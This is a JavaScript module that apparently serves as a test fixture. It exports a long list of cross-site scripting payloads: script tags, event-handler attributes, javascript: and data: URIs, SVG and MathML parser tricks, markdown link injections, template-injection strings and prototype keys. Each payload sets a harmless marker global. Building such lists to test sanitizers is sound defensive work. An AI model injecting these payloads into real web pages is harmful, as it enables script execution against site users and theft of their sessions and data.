/** Texts that run a script somewhere, if a page puts them where they were meant to go. */

/** The global that each of them would set. */
const HIT = 'pwned=1';

export const PAYLOADS = [
  `<script>${HIT}</script>`, `"><script>${HIT}</script>`, `'><script>${HIT}</script>`, `</textarea><script>${HIT}</script>`, `</style><script>${HIT}</script>`,
  `</title><script>${HIT}</script>`, `<ScRiPt>${HIT}</sCrIpT>`, `<script/x>${HIT}</script>`, `<<script>${HIT}//<</script>`, `<script src=data:,${HIT}></script>`,
  `<img src=x onerror=${HIT}>`, `"><img src=x onerror=${HIT}>`, `'"><img src=x onerror=${HIT}>`, `<img/src=x/onerror=${HIT}>`, `<img src=x onerror="${HIT}"//`,
  `<image src=x onerror=${HIT}>`, `<svg onload=${HIT}>`, `<svg><script>${HIT}</script></svg>`, `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${HIT}"><text>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg onload=${HIT}>"/></svg>`, `<math href="javascript:${HIT}">x</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${HIT}>`, `<body onload=${HIT}>`, `<iframe src="javascript:${HIT}"></iframe>`, `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
  `<object data="javascript:${HIT}"></object>`, `<embed src="javascript:${HIT}">`, `<a href="javascript:${HIT}">x</a>`, `<a href="java&#10;script:${HIT}">x</a>`,
  `<form action="javascript:${HIT}"><button>x</button></form>`, `<button formaction="javascript:${HIT}">x</button>`, `<input autofocus onfocus=${HIT}>`, `<select autofocus onfocus=${HIT}>`,
  `<textarea autofocus onfocus=${HIT}>`, `<details open ontoggle=${HIT}>`, `<video><source onerror=${HIT}>`, `<audio src=x onerror=${HIT}>`, `<video poster="javascript:${HIT}">`,
  `<marquee onstart=${HIT}>`, `<meta http-equiv=refresh content="0;url=javascript:${HIT}">`, `<base href="javascript:${HIT}//">`, `<link rel=stylesheet href="javascript:${HIT}">`,
  `<style>@import "javascript:${HIT}"</style>`, `<template><script>${HIT}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
  `<div style="background:url(javascript:${HIT})">`, `" onmouseover="${HIT}" x="`, `' onfocus='${HIT}' autofocus x='`, `" autofocus onfocus=${HIT} x="`,
  `javascript:${HIT}`, ` javascript:${HIT}`, `JaVaScRiPt:${HIT}`, `java\tscript:${HIT}`, `\u0001javascript:${HIT}`, `javascript://x%0a${HIT}`, `data:text/html,<script>parent.${HIT}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${HIT}"/>`, `vbscript:${HIT}`, `url("javascript:${HIT}")`, `red;background:url(https://evil.invalid/${HIT})`,
  `expression(${HIT})`, `\${${HIT}}`, `{{constructor.constructor('${HIT}')()}}`, `<!--<img src="--><img src=x onerror=${HIT}>">`, `<![CDATA[<script>${HIT}</script>]]>`,
  `[x](javascript:${HIT})`, `![x](javascript:${HIT})`, `[x](<javascript:${HIT}>)`, `<javascript:${HIT}>`, `[x]: javascript:${HIT}\n\n[x]`, `![x" onerror="${HIT}](https://evil.invalid/x)`,
  `<x-a onclick=${HIT}>`, `https://evil.invalid/${HIT}.png`, `__proto__`, `constructor`, `\u202e<script>${HIT}</script>`, `\u0000<script>${HIT}</script>`,
];
